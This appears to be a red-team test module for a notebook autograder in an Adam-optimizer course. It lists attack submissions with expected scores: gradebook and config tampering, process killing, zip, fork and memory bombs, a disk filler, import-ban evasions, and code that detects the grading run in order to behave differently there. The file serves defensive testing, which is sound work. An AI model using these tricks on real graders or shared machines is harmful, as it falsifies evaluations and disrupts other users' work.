    written.append(path)
    size = 0
    try:
        while size < 5 << 30 and time.time() < _END:
            st = os.statvfs(folder)
            if st.f_bavail * st.f_frsize < 10 << 30 or _available() < 6 << 30:
                break
            size += os.write(fd, chunk)
    except OSError:  # EFBIG, ENOSPC, EDQUOT, EROFS: the jail's limits
        pass
    finally:
        os.close(fd)
time.sleep(max(0.0, _END - time.time()))
for path in written:
    try:
        os.unlink(path)
    except OSError:
        pass
os._exit(0)
""", "diskfill")
'''

# --- 11. torch (or adamlab's reference) instead of one's own code: must be detected or blocked ----------------------
# Each adam_step below is right (it *is* torch.optim.Adam, or adamlab's reference), so only detection or a jail
# without torch or adamlab can give it what it earns: 0. None falls back to NumPy if the import fails.
_TORCH_STEP = """\
    p = T.tensor(np.array(theta, dtype=np.float64), requires_grad=True)
    p.grad = T.tensor(np.array(grad, dtype=np.float64))
    opt = T.optim.Adam([p], lr=lr, betas=(beta1, beta2), eps=eps, foreach=False)
    opt.state[p] = {
        "step": T.tensor(float(t - 1)),
        "exp_avg": T.tensor(np.array(m, dtype=np.float64)),
        "exp_avg_sq": T.tensor(np.array(v, dtype=np.float64)),
    }
    opt.step()
    state = opt.state[p]
    return p.detach().numpy().copy(), state["exp_avg"].numpy().copy(), state["exp_avg_sq"].numpy().copy()
"""


def _torch_solution(get_torch: str) -> str:
    """``adam_step`` computed by torch.optim.Adam, ``T`` being torch obtained by ``get_torch`` (lines of the body)."""
    return SIGNATURE + get_torch + _TORCH_STEP


# --- 12. telling the kernel from the confirmation run ---------------------------------------------------------------
# A vote of clues, taken once when the cell runs (so one run behaves one way throughout). A run without IPython's
# get_ipython() always counts as the confirmation (the grader's child process is not a Jupyter kernel); a kernel
# counts as one only if it carries more of the confirmation's fingerprints than of a kernel's.
_DETECT = """\
def _looks_confirmed():
    import os
    import resource
    import sys

    try:
        get_ipython  # a bare name: IPython defines it in every kernel, NameError elsewhere
        ipython = True
    except NameError:
        ipython = False

    def read(path):
        try:
            with open(path, "rb") as f:
                return f.read(4096)
        except OSError:
            return b""

    kernel = [
        ipython,
        any("ipykernel" in a for a in sys.argv),  # python -m ipykernel_launcher -f kernel-....json
        any(a.endswith(".json") and "kernel" in a for a in sys.argv),
        "NBGRADER_EXECUTION" in os.environ,  # set by nbgrader's autograde
        any(k.startswith("JPY_") for k in os.environ),
    ]
    confirm = [
        bool(sys.flags.isolated),  # python -I
        not os.environ.get("HOME", "").startswith(("/root", "/home")),  # a scrubbed HOME
        os.path.exists("cells.json") or os.path.exists("request.npz"),  # the run's files beside it
        os.getcwd().startswith(("/tmp/adamlab", "/var/tmp", "/dev/shm")),  # a temporary working folder
        resource.getrlimit(resource.RLIMIT_AS)[0] != resource.RLIM_INFINITY,  # a memory limit
        "_child" in " ".join(sys.argv) or "sandbox" in " ".join(sys.argv),  # the grader's child in argv
        b"bwrap" in read("/proc/1/cmdline"),  # a jail as pid 1
    ]
    return not ipython or sum(confirm) > sum(kernel)


_CONFIRMED = _looks_confirmed()


"""
_ANCHOR = "    m = beta1"
assert _ANCHOR in CORRECT, "the solution's adam_step changed: update attacks._ANCHOR"


def _two_faced(right_when: str) -> str:
    """The correct adam_step that returns its inputs unchanged (1 point: the purity test) unless ``right_when``."""
    unchanged = f"    if not ({right_when}):\n        return theta.copy(), m.copy(), v.copy()\n"
    return _DETECT + CORRECT.replace(_ANCHOR, unchanged + _ANCHOR, 1)


# --- the class ----------------------------------------------------------------------------------------------------
HONEST = ("honest_1", "honest_2", "honest_3")

ATTACKS: list[Attack] = [
    Attack(
        "attack_01_config",
        "config",
        "appends code to nbgrader_config.py (run by the grader itself when it loads its configuration): manual_score "
        "= max in the gradebook and a patched CSV exporter; removed again once grades.csv is written. A stub: 0.",
        None,
        (_cell("attack_01_config", _CONFIG),),
        0.0,
        (),
    ),
    Attack(
        "attack_02_package",
        "package",
        "plants a compile() hook in a .pth file of the venv's site-packages and in adamlab's _child.py and "
        "__init__.py: cells holding its token get 'from adamlab.optim import adam_step' appended, so the "
        "confirmation would check the reference. A stub: 0.",
        None,
        (_cell("attack_02_package", _PACKAGE),),
        0.0,
        (),
    ),
    Attack(
        "attack_03_gradebook",
        "gradebook",
        "sqlite UPDATEs on _grading/gradebook.db from a detached helper until grades.csv is written: its own "
        "manual_score = max_score, honest_1's = 0. A stub: 0; honest_1 keeps 9.",
        None,
        (_cell("attack_03_gradebook", _GRADEBOOK),),
        0.0,
        ("honest_1",),
    ),
    Attack(
        "attack_04_classmate",
        "classmate notebook",
        "overwrites honest_2's submitted and autograded notebook with the blank release, at once and from a detached "
        "helper. Its own adam_step is correct: 9; honest_2 keeps 9.",
        CORRECT,
        (_cell("attack_04_classmate", _CLASSMATE),),
        9.0,
        ("honest_2",),
    ),
    Attack(
        "attack_05_tmpfiles",
        "temp files",
        "a detached helper rewrites cells.json, corrupts request.npz and forges result.npz in the other confirmation "
        "runs' temporary folders (/tmp/adamlab-sandbox-*) of this course. Correct adam_step: 9; victims keep 9.",
        CORRECT,
        (_cell("attack_05_tmpfiles", _TMPFILES),),
        9.0,
        HONEST,
    ),
    Attack(
        "attack_06_source_notebook",
        "source notebook",
        "sets grade: false on the test cells of the source notebook in solutions/ (nothing left to confirm) and "
        "turns its kernel's test cells into `pass` (the kernel says 9). A stub: 0.",
        None,
        (_cell("attack_06_source_notebook", _SOURCE_NOTEBOOK),),
        0.0,
        (),
    ),
    Attack(
        "attack_07_daemon",
        "daemon",
        "a detached daemon (double fork + setsid; 'adamlab-attack-attack_07_daemon-daemon' in its command line) "
        "gives itself full marks in _grading/grades.csv whenever it exists, until 60 s after it was written. "
        "A stub: 0; no such process may survive grading.",
        None,
        (_cell("attack_07_daemon", _DAEMON),),
        0.0,
        (),
    ),
    Attack(
        "attack_08_kill",
        "kill",
        "SIGKILLs every process of this course's grading whose command line says nbgrader, adamlab or python, then "
        "its parent, and again for 30 s from a detached helper. A stub (its own run may die with what it kills): 0; "
        "grading must finish and the honest students keep 9.",
        None,
        (_cell("attack_08_kill", _KILL, sweep=_SWEEP),),
        0.0,
        HONEST,
    ),
    Attack(
        "attack_09_zipbomb",
        "zip bomb",
        "result.npz files of ~1 MiB that inflate to 1 GiB, in the confirmation result's format (an .npz with "
        "__tree__), planted in the cwd, HOME, the run's folders, a jail's writable binds, at exit (after the run "
        "wrote its own), and in this course's other runs' folders. A stub (its own result is the bomb): 0; victims "
        "keep 9. A grader whose results cross a pipe with sizes checked never reads it.",
        None,
        (_cell("attack_09_zipbomb", _ZIPBOMB, bomb=_BOMB),),
        0.0,
        HONEST,
    ),
    Attack(
        "attack_10a_forkbomb",
        "fork bomb",
        "a detached binary fork tree, 12 levels (at most 8191 processes, 15 s each). Its own cell returns at once and "
        "its adam_step is correct: 9, provided the jail refuses the forks (EAGAIN) or kills the tree, not the "
        "student's own process. Victims: a process limit shared by every jail (one uid, RLIMIT_NPROC) is held "
        "full for 15 s, so jails started meanwhile may fail to start threads or processes.",
        CORRECT,
        (_cell("attack_10a_forkbomb", _FORK_BOMB),),
        9.0,
        HONEST,
    ),
    Attack(
        "attack_10b_memorybomb",
        "memory bomb",
        "4 detached processes fill 5 GiB each with np.ones (20 GiB in all) and hold it 12 s. Its own process "
        "allocates nothing and its adam_step is correct: 9, provided the jail fails the allocations (MemoryError) "
        "or kills the helpers, not the student's own process (an OOM kill picks the largest). Victims: a "
        "per-process RLIMIT_AS does not bound the total, so the machine's memory runs low for the other runs.",
        CORRECT,
        (_cell("attack_10b_memorybomb", _MEMORY_BOMB),),
        9.0,
        HONEST,
    ),
    Attack(
        "attack_10c_diskfill",
        "disk filler",
        "a detached helper writes 5 GiB of zeros into the cwd and 5 GiB into the temporary folder (SIGXFSZ ignored), "
        "then deletes them after 20 s. Its own process writes nothing and its adam_step is correct: 9. Victims: "
        "a shared disk or an unbounded tmpfs (memory) fills up for the other runs.",
        CORRECT,
        (_cell("attack_10c_diskfill", _DISK_FILLER),),
        9.0,
        HONEST,
    ),
    Attack(
        "attack_11a_torch_exec",
        "torch",
        "adam_step runs exec('import torch as T', globals()) and steps torch.optim.Adam (no import the AST shows). 0.",
        _torch_solution('    exec("import torch as T", globals())\n'),
        (),
        0.0,
        (),
    ),
    Attack(
        "attack_11b_torch_extra_cell",
        "torch",
        "`import torch as T` in an extra cell (not the solution cell), adam_step steps torch.optim.Adam through T. 0.",
        _torch_solution(""),
        ("import torch as T\n",),
        0.0,
        (),
    ),
    Attack(
        "attack_11c_torch_getattr",
        "torch",
        "torch = getattr(builtins, '__imp' + 'ort__')('to' + 'rch') inside adam_step, then torch.optim.Adam. 0.",
        _torch_solution("    import builtins\n\n    T = getattr(builtins, '__imp' + 'ort__')('to' + 'rch')\n"),
        (),
        0.0,
        (),
    ),
    Attack(
        "attack_11d_torch_import_module",
        "torch",
        "importlib.import_module(''.join(['to', 'rch'])) inside adam_step, then torch.optim.Adam. 0.",
        _torch_solution("    import importlib\n\n    T = importlib.import_module(''.join(['to', 'rch']))\n"),
        (),
        0.0,
        (),
    ),
    Attack(
        "attack_11e_reference_inspect",
        "reference",
        "inspect.getmodule(check) (the notebook's own check) leads to adamlab's probes, whose run holds the reference "
        "adam_step: returned as its own, with no banned word in the cell. 0.",
        SIGNATURE
        + "    import inspect\n\n"
        + "    ref = inspect.getmodule(check).probe('adam_step:first_step').run.args[0].reference\n"
        + "    return ref(theta, grad, m, v, t, lr=lr, beta1=beta1, beta2=beta2, eps=eps)\n",
        (),
        0.0,
        (),
    ),
    Attack(
        "attack_11f_torch_builtins",
        "torch",
        "__builtins__['__import__']('torch') (a dict in an exec'd namespace, a module in IPython), then "
        "torch.optim.Adam. 0.",
        _torch_solution(
            "    b = __builtins__\n    T = (b['__import__'] if isinstance(b, dict) else b.__import__)('torch')\n"
        ),
        (),
        0.0,
        (),
    ),
    Attack(
        "attack_12a_right_when_confirmed",
        "detection",
        "correct only when it believes it is the confirmation run (a vote of clues: sys.flags.isolated, HOME, argv, "
        "RLIMIT_AS, the cwd, env vars, /proc/1/cmdline, IPython), its inputs unchanged otherwise. The confirmation "
        "run is a child process, not a kernel: it is right there, 9 (1 if the runs look alike: IF_RUNS_LOOK_ALIKE).",
        _two_faced("_CONFIRMED"),
        (),
        9.0,
        (),
    ),
    Attack(
        "attack_12b_right_in_kernel",
        "detection",
        "the reverse: correct in the kernel (the student sees ✓ everywhere), its inputs unchanged where it believes it "
        "is confirmed: the confirmed score is what it does there, 1 (the purity test); 9 if the runs look alike.",
        _two_faced("not _CONFIRMED"),
        (),
        1.0,
        (),
    ),
]
ATTACKS += [Attack(s, "honest", "a correct solution, no attack: 9.", CORRECT, (), POINTS, ()) for s in HONEST]

# The confirmed score each detection attacker gets if the confirmation run cannot be told from the kernel (both an
# IPython kernel with the same clues): one consistent behaviour, the kernel's.
IF_RUNS_LOOK_ALIKE = {"attack_12a_right_when_confirmed": 1.0, "attack_12b_right_in_kernel": 9.0}


def make_attack_notebook(attack: Attack, release_nb: str | Path) -> str:
    """The text of ``attack``'s notebook: the released notebook with its solution cell and extra cells."""
    sub = Submission(attack.student, attack.solution, attack.expected, (), attack.extra_cells)
    return make_notebook(str(release_nb), sub)


def leftovers(*folders: str | Path) -> list[Path]:
    """Files under ``folders`` that an attack planted or edited and that carry :data:`MARKER` in their name or
    text (the .pth files, the blocks in nbgrader_config.py or adamlab's files, the disk filler's files); the
    attackers' notebooks, which hold the marker too, are not listed.

    Changes without the marker (the gradebook's rows, honest_2's notebook, the source notebook's metadata) are
    the red-team test's to compare."""
    found = []
    for folder in folders:
        for path in _walk(Path(folder)):
            try:
                if MARKER in path.name or (
                    path.is_file()
                    and path.suffix in (".py", ".pth", ".cfg")  # not .ipynb: the attackers' own notebooks
                    and path.stat().st_size < 2**24
                    and MARKER in path.read_text(errors="replace")
                ):
                    found.append(path)
            except OSError:
                continue
    return found


def _walk(folder: Path):
    """Every path under ``folder``, skipping what vanishes while it is read (other tests' temporary folders come
    and go in /tmp while the class is graded)."""
    for parent, dirs, files in os.walk(folder):
        for name in dirs + files:
            yield Path(parent) / name


def remove_planted(*folders: str | Path) -> list[Path]:
    """Undo what :func:`leftovers` finds under ``folders``: delete the files named after :data:`MARKER`, cut the
    ``# >>> adamlab-attack-...`` / ``# <<< ...`` blocks out of the others. Returns the paths it changed."""
    changed = []
    for path in leftovers(*folders):
        if MARKER in path.name:
            path.unlink()
        else:
            lines, skipping = [], False
            for line in path.read_text().splitlines(keepends=True):
                if line.startswith("# >>> " + MARKER):
                    skipping = True
                    if lines and lines[-1] == "\n":
                        lines.pop()  # the blank line the attack put before its block
                elif skipping and line.startswith("# <<< " + MARKER):
                    skipping = False
                elif not skipping:
                    lines.append(line)
            path.write_text("".join(lines))
        changed.append(path)
    return changed
